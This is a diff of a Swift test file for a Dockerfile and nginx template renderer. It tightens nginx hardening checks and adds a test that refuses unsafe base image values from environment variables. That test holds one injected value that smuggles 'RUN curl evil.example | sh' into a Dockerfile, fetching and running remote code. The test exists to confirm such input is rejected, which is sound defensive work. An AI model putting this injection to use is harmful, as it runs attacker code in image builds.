@@ -24,19 +24,18 @@ struct TemplateTests {
         Case(golden: "python", server: .python, spa: false, errorPage: nil),
     ]
 
-    /// Set BERTH_UPDATE_GOLDEN=1 to rewrite the golden files after an intended template change.
+    /// After an intended template change, edit the golden files to match (`berth render --out DIR` shows the new
+    /// output) and review the difference: the test never writes them itself.
     @Test("renders the golden files", arguments: cases)
     func golden(_ testCase: Case) throws {
         let values = TemplateValues(baseImage: testCase.server.defaultBaseImage, port: 8080,
-                                    user: testCase.server.runAsUser, spa: testCase.spa, errorPage: testCase.errorPage,
+                                    user: testCase.server.runAsUser, spa: testCase.spa,
+                                    errorPage: try testCase.errorPage.map(SiteFilePath.init(parsing:)),
                                     imageLabels: SiteIdentity(user: "ann", site: "blog").imageLabels(server: testCase.server))
         let files = try Self.templates.render(server: testCase.server, values: values)
         #expect(files.first?.name == "Dockerfile")
         let rendered = files.map { "=== \($0.name)\n\($0.contents)" }.joined(separator: "\n")
         let goldenFile = Self.goldenDirectory.appendingPathComponent(testCase.golden + ".txt")
-        if ProcessInfo.processInfo.environment["BERTH_UPDATE_GOLDEN"] == "1" {
-            try rendered.write(to: goldenFile, atomically: true, encoding: .utf8)
-        }
         let expected = try String(contentsOf: goldenFile, encoding: .utf8)
         #expect(rendered == expected)
         #expect(!rendered.contains("&amp;") && !rendered.contains("&quot;") && !rendered.contains("&#"))
@@ -45,12 +44,13 @@ struct TemplateTests {
 
     @Test("the nginx configuration holds the hardening the issue asks for")
     func nginxHardening() throws {
-        let values = TemplateValues(baseImage: "x", port: 8080, user: "101:101", spa: false, errorPage: "404.html",
+        let values = TemplateValues(baseImage: try ImageReference(parsing: "x"), port: 8080, user: "101:101", spa: false,
+                                    errorPage: try SiteFilePath(parsing: "404.html"),
                                     imageLabels: SiteIdentity(user: "ann", site: "blog").imageLabels(server: .nginx))
         let files = try Self.templates.render(server: .nginx, values: values)
         let config = try #require(files.first { $0.name == "nginx.conf" }).contents
         for line in ["pid /tmp/nginx.pid;", "listen 8080", "server_tokens off;", "gzip on;",
-                     "X-Content-Type-Options nosniff", "error_page 404 /404.html;", "include /etc/nginx/mime.types;"] {
+                     "X-Content-Type-Options nosniff", "error_page 404 /404.html;", "include /etc/nginx/mime.types;", "absolute_redirect off;"] {
             #expect(config.contains(line), "nginx.conf lacks \(line)")
         }
         let dockerfile = try #require(files.first).contents
@@ -63,7 +63,8 @@ struct TemplateTests {
     func missingValue() throws {
         let directory = try TemporarySite()
         try directory.write("nginx/Dockerfile.mustache", "{{%CONTENT_TYPE: TEXT}}\nFROM {{baseImage}}\nRUN {{colour}}\n")
-        let values = TemplateValues(baseImage: "x", port: 8080, user: "1", spa: false, errorPage: nil, imageLabels: [:])
+        let values = TemplateValues(baseImage: try ImageReference(parsing: "x"), port: 8080, user: "1", spa: false,
+                                    errorPage: nil, imageLabels: [:])
         #expect(throws: TemplateError.missingValues(template: "nginx/Dockerfile.mustache", names: ["colour"])) {
             try TemplateSet(directory: directory.path).render(server: .nginx, values: values)
         }
@@ -73,7 +74,8 @@ struct TemplateTests {
     func plainTextPragma() throws {
         let directory = try TemporarySite()
         try directory.write("nginx/Dockerfile.mustache", "FROM {{baseImage}}\nRUN a && b\n")
-        let values = TemplateValues(baseImage: "x", port: 8080, user: "1", spa: false, errorPage: nil, imageLabels: [:])
+        let values = TemplateValues(baseImage: try ImageReference(parsing: "x"), port: 8080, user: "1", spa: false,
+                                    errorPage: nil, imageLabels: [:])
         #expect(throws: TemplateError.self) {
             try TemplateSet(directory: directory.path).render(server: .nginx, values: values)
         }
@@ -88,17 +90,35 @@ struct TemplateTests {
     func missingPartial() throws {
         let directory = try TemporarySite()
         try directory.write("nginx/Dockerfile.mustache", "{{%CONTENT_TYPE: TEXT}}\n{{> _nowhere }}\n")
-        let values = TemplateValues(baseImage: "x", port: 8080, user: "1", spa: false, errorPage: nil, imageLabels: [:])
+        let values = TemplateValues(baseImage: try ImageReference(parsing: "x"), port: 8080, user: "1", spa: false,
+                                    errorPage: nil, imageLabels: [:])
         #expect(throws: TemplateError.missingPartial(template: "nginx/Dockerfile.mustache", partial: "_nowhere")) {
             try TemplateSet(directory: directory.path).render(server: .nginx, values: values)
         }
     }
 
     @Test("base image: flag, else environment, else the official image")
-    func baseImageChoice() {
-        #expect(ServerKind.nginx.baseImage(override: "mine:1", environment: ["BERTH_NGINX_IMAGE": "env:1"]) == "mine:1")
-        #expect(ServerKind.nginx.baseImage(override: nil, environment: ["BERTH_NGINX_IMAGE": "env:1"]) == "env:1")
-        #expect(ServerKind.python.baseImage(override: nil, environment: ["BERTH_NGINX_IMAGE": "env:1"])
+    func baseImageChoice() throws {
+        let mine = try ImageReference(parsing: "mine:1")
+        #expect(try ServerKind.nginx.baseImage(override: mine, environment: ["BERTH_NGINX_IMAGE": "env:1"]) == mine)
+        #expect(try ServerKind.nginx.baseImage(override: nil, environment: ["BERTH_NGINX_IMAGE": "env:1"]).description
+            == "env:1")
+        #expect(try ServerKind.python.baseImage(override: nil, environment: ["BERTH_NGINX_IMAGE": "env:1"])
             == ServerKind.python.defaultBaseImage)
+        #expect(ServerKind.python.defaultBaseImage.description == "python:3.12-alpine")
+    }
+
+    @Test("a base image from the environment that is not an image reference is refused, naming the variable")
+    func baseImageFromEnvironmentChecked() {
+        for (server, variable) in [(ServerKind.nginx, "BERTH_NGINX_IMAGE"), (.python, "BERTH_PYTHON_IMAGE")] {
+            let hostile = "nginx:1\nRUN curl evil.example | sh"
+            #expect {
+                try server.baseImage(override: nil, environment: [variable: hostile])
+            } throws: { error in
+                guard let error = error as? ImageReferenceError else { return false }
+                return error.source == variable && error.value == hostile && error.reason.contains("newline")
+                    && error.description.contains(variable) && !error.description.contains("\n")
+            }
+        }
     }
 }
